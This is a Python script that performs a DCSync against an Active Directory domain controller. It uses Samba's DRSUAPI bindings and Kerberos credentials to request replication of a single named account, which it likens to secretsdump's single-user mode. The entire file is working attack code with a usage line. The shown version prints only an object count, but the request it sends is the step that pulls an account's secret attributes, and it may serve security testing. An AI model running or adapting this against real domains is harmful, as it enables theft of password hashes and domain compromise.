#!/usr/bin/python3
"""DCSync of one account over Kerberos-sealed DRSUAPI, with Samba's own
client library: DsBind, then DsGetNCChanges with EXOP_REPL_OBJ for the
account (what secretsdump -just-dc-user does). Run after kinit.

    dcsync.py SERVER ACCOUNT_DN
"""
import sys

from samba import param
from samba.credentials import Credentials, MUST_USE_KERBEROS
from samba.dcerpc import drsuapi, misc
from samba import drs_utils

server, dn = sys.argv[1], sys.argv[2]
lp = param.LoadParm()
lp.load_default()
creds = Credentials()
creds.guess(lp)
creds.set_kerberos_state(MUST_USE_KERBEROS)
drs, handle, _ = drs_utils.drsuapi_connect(server, lp, creds)

req = drsuapi.DsGetNCChangesRequest8()
req.destination_dsa_guid = misc.GUID("9c637462-5b8c-4467-aef2-bdb1f57bc4ef")
req.source_dsa_invocation_id = misc.GUID()
req.naming_context = drsuapi.DsReplicaObjectIdentifier()
req.naming_context.dn = dn
req.highwatermark = drsuapi.DsReplicaHighWaterMark()
req.highwatermark.tmp_highest_usn = 0
req.highwatermark.reserved_usn = 0
req.highwatermark.highest_usn = 0
req.uptodateness_vector = None
req.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
req.max_object_count = 1
req.max_ndr_size = 402116
req.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
req.fsmo_info = 0
req.partial_attribute_set = None
req.partial_attribute_set_ex = None
req.mapping_ctr.num_mappings = 0
req.mapping_ctr.mappings = None
level, ctr = drs.DsGetNCChanges(handle, 8, req)
print("DsGetNCChanges level %d: %d object(s)" % (level, ctr.object_count))
